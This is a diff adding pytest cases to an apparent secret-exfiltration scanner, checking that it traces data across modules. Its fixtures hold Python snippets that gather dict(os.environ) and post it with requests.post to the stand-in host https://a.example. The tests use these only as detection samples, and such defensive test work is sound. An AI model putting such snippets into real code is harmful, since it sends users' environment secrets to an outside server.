@@ -270,3 +270,30 @@ def test_code_that_nobody_sees_is_named(tmp_path: Path, line: str) -> None:
 )
 def test_what_is_only_far_away_is_not(tmp_path: Path, line: str) -> None:
     assert rules(tmp_path, {"sample/__init__.py": line}, "sample/__init__.py") == set()
+
+
+GATHER = "import os\ndef gather():\n    return dict(os.environ)\n"
+DELIVER = "import requests\ndef deliver(data):\n    requests.post('https://a.example', json=data)\n"
+
+
+@pytest.mark.parametrize(
+    "main",
+    [
+        "import requests\nfrom .a import gather\nrequests.post('https://a.example', json=gather())",
+        "import requests\nfrom . import a\nrequests.post('https://a.example', json=a.gather())",
+        "import os\nfrom .b import deliver\ndeliver(dict(os.environ))",
+        "from .a import gather\nfrom .b import deliver\ndeliver(gather())",
+        "import sample.a\nimport sample.b\nsample.b.deliver(sample.a.gather())",
+    ],
+)
+def test_data_is_followed_from_one_module_to_the_next(tmp_path: Path, main: str) -> None:
+    files = {"sample/__init__.py": main, "sample/a.py": GATHER, "sample/b.py": DELIVER}
+
+    assert rules(tmp_path, files, "sample/__init__.py") == {"sends-secrets"}
+
+
+def test_what_another_module_gives_and_what_is_sent_are_two_things(tmp_path: Path) -> None:
+    main = "from .a import gather\nfrom .b import deliver\nX = gather()\ndeliver('hello')"
+    files = {"sample/__init__.py": main, "sample/a.py": GATHER, "sample/b.py": DELIVER}
+
+    assert rules(tmp_path, files, "sample/__init__.py") == set()
